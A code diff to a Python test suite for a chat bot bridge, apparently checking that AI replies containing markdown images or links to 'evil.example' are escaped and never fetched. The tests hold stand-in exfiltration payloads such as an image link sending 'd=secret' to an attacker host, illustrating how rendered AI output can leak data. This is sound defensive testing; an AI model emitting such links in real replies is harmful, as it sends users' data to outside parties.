@@ -8,6 +8,8 @@ the real turn loop where the whole path matters.
 
 from __future__ import annotations
 
+import html
+import re
 import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -54,6 +56,11 @@ class Loopd:
     @property
     def turns(self) -> list[Any]:
         return [envelope.message for envelope in self.server.requests]
+
+
+def shown(message: str) -> str:
+    """A posted message as the owner reads it: escapes and character references undone."""
+    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", message))
 
 
 def say(peer: Peer, text: str, *, untrusted: bool, chunks: int = 1) -> None:
@@ -194,7 +201,7 @@ def test_an_image_is_posted_as_code_in_a_clean_reply(
     loopd.answer = lambda peer: say(peer, f"Here you go {EXFIL_IMAGE}", untrusted=False)
     fake.post_as(fake.owner, dm(fake), "show me")
     (answer,) = answered(fake, 1)
-    assert "`![x](https://evil.example/collect?d=secret)`" in answer["message"]
+    assert "\\!\\[x\\]\\(https&#58;&#47;&#47;evil\\.example" in answer["message"]
     assert all(urls == [] for _post, urls in fake.fetch_history)
 
 
@@ -207,7 +214,7 @@ def test_an_untrusted_turn_posts_every_link_as_code_with_the_notice(
     (answer,) = answered(fake, 1)
     assert answer["message"].endswith(NOTICE)
     assert answer["props"]["unsafe_links"] == "true"
-    assert "https://evil.example/a?d=1" in answer["message"]  # shown, as code
+    assert "https://evil.example/a?d=1" in shown(answer["message"])  # shown, as text
     for post_id, urls in fake.fetch_history:  # every version of every post
         assert urls == [], (post_id, urls)
 
@@ -228,7 +235,7 @@ def test_streamed_edits_are_escaped_before_the_trust_is_known(
     loopd.answer = slow
     fake.post_as(fake.owner, dm(fake), "go")
     wait_until(
-        lambda: any("evil.example" in p["message"] for p in bot_posts(fake)),
+        lambda: any("evil.example" in shown(p["message"]) for p in bot_posts(fake)),
         10.0,
         "a streamed edit",
     )
@@ -245,8 +252,8 @@ def test_loopd_down_is_said_in_the_answer_post(
     loopd.server.stop()
     fake.post_as(fake.owner, dm(fake), "anyone there?")
     (answer,) = answered(fake, 1)
-    assert "loopd is not answering" in answer["message"]
-    assert "runbook.md#loopd-unavailable" in answer["message"]
+    assert "loopd is not answering" in shown(answer["message"])
+    assert "runbook.md#loopd-unavailable" in shown(answer["message"])
 
 
 # --- a dropped WebSocket ---------------------------------------------------------------------
@@ -345,8 +352,10 @@ def test_a_reply_longer_than_a_post_goes_on_in_the_thread(
     assert all(CONTINUED in p["message"] for p in posts[:-1])
     assert CONTINUED not in posts[-1]["message"]
     # every line of the reply is in exactly one post, in order
-    shown = [line for p in posts for line in p["message"].splitlines() if "the build" in line]
-    assert [line.split(":")[0] for line in shown] == [f"line {n}" for n in range(600)]
+    lines_shown = [
+        line for p in posts for line in shown(p["message"]).splitlines() if "the build" in line
+    ]
+    assert [line.split(":")[0] for line in lines_shown] == [f"line {n}" for n in range(600)]
     for p in posts:
         assert (p["props"].get("unsafe_links") == "true") is untrusted
         assert (NOTICE in p["message"]) is untrusted
